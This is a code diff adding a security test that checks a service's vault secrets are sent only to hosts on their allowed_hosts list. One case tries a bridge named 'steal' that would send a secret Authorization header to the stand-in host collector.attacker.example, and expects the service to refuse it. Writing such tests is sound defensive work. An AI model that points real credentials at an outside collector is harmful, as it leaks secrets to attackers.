@@ -82,7 +82,7 @@ describe('Security: egress (token mode; 127.0.0.1 stands in for an internal host
     await listed.start();
     writeFileSync(tokens, `tokens:\n  - {name: gitops, role: operator, sha256: ${sha256('op')}}\n  - {name: platform, role: admin, sha256: ${sha256('adm')}}\n`);
     service = await startService(redis.url, {
-      AUTH_MODE: 'token', AUTH_TOKENS_FILE: tokens, DATA_DIR: path.join(dir, 'data'), EGRESS_ALLOWLIST: '127.0.0.2',
+      AUTH_MODE: 'token', AUTH_TOKENS_FILE: tokens, DATA_DIR: path.join(dir, 'data'), EGRESS_ALLOWLIST: '127.0.0.2', SVC_VAULT_KEYS: `k1=${Buffer.alloc(32, 3).toString('base64')}`,
       NOTIFY_BACKOFF: '200ms', NOTIFY_MAX_BACKOFF: '1s', NOTIFY_HEALTH_INTERVAL: '500ms', NOTIFY_TIMEOUT: '2s',
     });
   });
@@ -133,6 +133,56 @@ describe('Security: egress (token mode; 127.0.0.1 stands in for an internal host
       }
     }
     expect((await call('op', 'GET', '/api/resources/bridge.instance/envref')).status).to.equal(404);
+  });
+
+  it('a vault secret goes only to the hosts its allowed_hosts names: an operator cannot point it elsewhere (422 when written, refused at send after the admin narrows it)', async () => {
+    const VAULT_TOKEN = 'vault-bridge-token-0d6b3f7e21a4';
+    const putSecret = (ref: string, more: Record<string, unknown> = {}, token = 'adm') => call(token, 'PUT', '/api/vault/secrets', { ref, secret_value: VAULT_TOKEN, ...more });
+    expect((await putSecret('vault:bridges/x', { allowed_hosts: ['127.0.0.2'] }, 'op')).status).to.equal(403);
+    const bad = await putSecret('vault:bridges/x', { allowed_hosts: ['https://a.example/path'] });
+    expect(bad.status).to.equal(400);
+    expect(bad.body.diagnostic.evidence).to.have.property('allowed_hosts');
+    const bound = await putSecret('vault:bridges/hook', { allowed_hosts: ['127.0.0.2', '*.hooks.example'] });
+    expect(bound.status, JSON.stringify(bound.body)).to.equal(200);
+    expect(bound.body.secret.allowed_hosts).to.deep.equal(['127.0.0.2', '*.hooks.example']);
+    expect((await putSecret('vault:bridges/open')).status).to.equal(200);
+    const listedSecrets = (await call('op', 'GET', '/api/vault/secrets?namespace=bridges')).body.secrets;
+    expect(listedSecrets.map((x: any) => [x.ref, x.allowed_hosts])).to.deep.equal([['vault:bridges/hook', ['127.0.0.2', '*.hooks.example']], ['vault:bridges/open', undefined]]);
+    expect(JSON.stringify(listedSecrets)).to.not.include(VAULT_TOKEN);
+
+    const vaultBridge = (url: string, ref: string) => ({ ...bridge(url), provider_config: { url, secret_headers: { Authorization: ref } } });
+    for (const [url, ref, why] of [
+      ['http://collector.attacker.example/h', 'vault:bridges/hook', 'may be sent only to 127.0.0.2, *.hooks.example, not to collector.attacker.example'],
+      [`${listed.url}/hook`, 'vault:bridges/open', 'has no allowed_hosts'],
+    ]) {
+      const res = await call('op', 'PUT', '/api/resources/bridge.instance/steal', { scope: { kind: 'global' }, expected_version: 0, spec: vaultBridge(url, ref) });
+      expect(res.status, JSON.stringify(res.body)).to.equal(422);
+      expect(res.body.diagnostic.code).to.equal('secret_destination_not_allowed');
+      expect(res.body.diagnostic.evidence['spec.provider_config.secret_headers.Authorization']).to.include(why);
+    }
+    expect((await call('op', 'GET', '/api/resources/bridge.instance/steal')).status).to.equal(404);
+
+    await putRecord('bridge.instance', 'vaulted', vaultBridge(`${listed.url}/hook`, 'vault:bridges/hook'));
+    await eventually(async () => expect(condition(await status('bridge.instance', 'vaulted'), 'Connected')).to.include({ status: 'True' }));
+    const sentWithSecret = () => listed.requests.filter((r) => r.headers.authorization === VAULT_TOKEN).length;
+    expect(sentWithSecret()).to.be.greaterThan(0);
+    // The admin narrows the secret's hosts: from then on the bridge sends it nowhere, and says why.
+    expect((await putSecret('vault:bridges/hook', { allowed_hosts: ['hooks.example.com'] })).status).to.equal(200);
+    const st = await eventually(async () => {
+      const s2 = await status('bridge.instance', 'vaulted');
+      expect(condition(s2, 'Connected'), JSON.stringify(s2)).to.include({ status: 'False', reason: 'SecretHostNotAllowed' });
+      return s2;
+    });
+    expect(condition(st, 'Connected').message).to.include('may be sent only to hooks.example.com');
+    const sent = sentWithSecret();
+    const preset = await call('adm', 'POST', '/api/notifications/presets', { name: 'vaulted', enabled: true, events: ['bound.*'], targets: [{ bridge_id: 'vaulted' }] });
+    expect(preset.status, JSON.stringify(preset.body)).to.equal(201);
+    await service.bus!.publishMany([{ type: 'bound.ping', source: 'test', outcome: 'warning', summary: 'ping', data: {} }]);
+    await eventually(async () => {
+      const d = (await call('op', 'GET', '/api/notifications/deliveries?limit=100')).body.deliveries as any[];
+      expect(d.find((r) => r.bridge_id === 'vaulted' && r.attempts >= 1)?.last_error, JSON.stringify(d)).to.include('allowed_hosts');
+    });
+    expect(sentWithSecret()).to.equal(sent);
   });
 
   it('the webhook client refuses every spelling of an internal address (name, IPv4-mapped, metadata) before any byte is sent', async () => {
